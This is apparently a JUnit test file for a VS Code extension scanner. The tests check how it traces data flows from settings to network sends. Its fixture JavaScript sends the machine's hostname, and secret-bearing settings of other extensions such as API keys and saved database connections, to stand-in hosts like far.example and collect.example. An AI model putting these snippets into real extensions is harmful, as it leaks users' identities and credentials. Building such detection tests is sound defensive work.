package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Where data goes on machines whose users have not set what a setting asks for. */
class SettingsTest {

    private static final String MANIFEST = """
            {"name": "relay", "publisher": "acme", "contributes": {"configuration": {"properties": {
              "relay.server": {"type": "string", "default": "https://declared.example"},
              "relay.on": {"type": "boolean", "default": true},
              "relay.off": {"type": "boolean", "default": false}}}}}
            """;

    @Test
    void whatTheManifestDeclaresHoldsBeforeWhatTheCodeGives() {
        Analysis analysis = reading("get('server', 'https://given.example')");

        assertThat(analysis.flows("account-identity", "network-send"))
                .flatExtracting(Feature.Flow::destinations)
                .containsExactlyInAnyOrder("https://declared.example/in", "…/in");
    }

    /** By what it is called: a secret, or what programs that log in keep with their passwords. */
    @ParameterizedTest
    @CsvSource({
        "other.apiKey, true", "sqltools.connections, true", "rest-client.environmentVariables, true",
        "relay.apiKey, false", "other.colour, false", "http.proxyPassword, false",
    })
    void aSettingOfAnotherExtensionIsTold(String setting, boolean isTold) {
        Analysis analysis = Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
                const vscode = require('vscode');
                exports.activate = () => {
                  for (const name of ['%s']) {
                    fetch('https://far.example/', { method: 'POST', body: vscode.workspace.getConfiguration().get(name) });
                  }
                };
                """.formatted(setting)));

        assertThat(analysis.flows("foreign-setting", "network-send").isEmpty()).isNotEqualTo(isTold);
    }

    /** The user may set another, but has not chosen the one that is there. */
    @Test
    void aConnectionToADeclaredAddressIsNotTheUsers() {
        Analysis analysis = connectingTo("server");

        assertThat(analysis.destinations("account-identity", "network-send")).contains("https://declared.example");
        assertThat(analysis.guards("account-identity", "network-send")).isEmpty();
    }

    @Test
    void aConnectionToAnAddressThatOnlyTheUserSetsIsTheUsers() {
        Analysis analysis = connectingTo("unheard");

        assertThat(analysis.guards("account-identity", "network-send")).contains("own-endpoint");
    }

    @ParameterizedTest
    @CsvSource({"server, false", "unheard, true"})
    void aRequestToADeclaredAddressIsNotTheUsersAsATextOrUrl(String setting, boolean isTheUsers) {
        for (String address : List.of("%s", "new URL(%s)")) {
            Analysis analysis = Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
                    const vscode = require('vscode');
                    exports.activate = () => fetch(%s, { method: 'POST', body: require('os').hostname() });
                    """.formatted(
                            address.formatted("vscode.workspace.getConfiguration('relay').get('" + setting + "')"))));

            assertThat(analysis.guards("account-identity", "network-send").contains("own-endpoint"))
                    .as(address)
                    .isEqualTo(isTheUsers);
        }
    }

    private static Analysis connectingTo(String setting) {
        return Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
                const vscode = require('vscode'), os = require('os');
                exports.activate = () => {
                  const socket = new WebSocket(vscode.workspace.getConfiguration('relay').get('SETTING'));
                  socket.on('open', () => socket.send(os.hostname()));
                };
                """.replace("SETTING", setting)));
    }

    @Test
    void whatTheCodeGivesHoldsForWhatNobodyDeclares() {
        Analysis analysis = reading("get('mirror', 'https://given.example')");

        assertThat(analysis.flows("account-identity", "network-send"))
                .flatExtracting(Feature.Flow::destinations)
                .containsExactlyInAnyOrder("https://given.example/in", "…/in");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "get('on')               | setting-on-by-default",
                "get('server')           | setting-on-by-default",
                "get('on', false)        | setting-on-by-default",
                "get('unheard', true)    | setting-on-by-default",
                "get('off')              | own-setting",
                "get('off', true)        | own-setting",
                "get('unheard')          | own-setting",
                "get('unheard', false)   | own-setting",
            })
    void aSwitchThatIsOnBeforeAnybodySetItIsToldApart(String setting, String guard) {
        Analysis analysis = Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
                const vscode = require('vscode');
                exports.activate = () => {
                  if (vscode.workspace.getConfiguration('relay').%s) {
                    fetch('https://collect.example/in', { method: 'POST', body: require('os').hostname() });
                  }
                };
                """.formatted(setting)));

        assertThat(analysis.guards("account-identity", "network-send")).containsExactly(guard);
    }

    private static Analysis reading(String setting) {
        return Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
                const vscode = require('vscode');
                exports.activate = () => fetch(vscode.workspace.getConfiguration('relay').%s + '/in',
                  { method: 'POST', body: require('os').hostname() });
                """.formatted(setting)));
    }
}
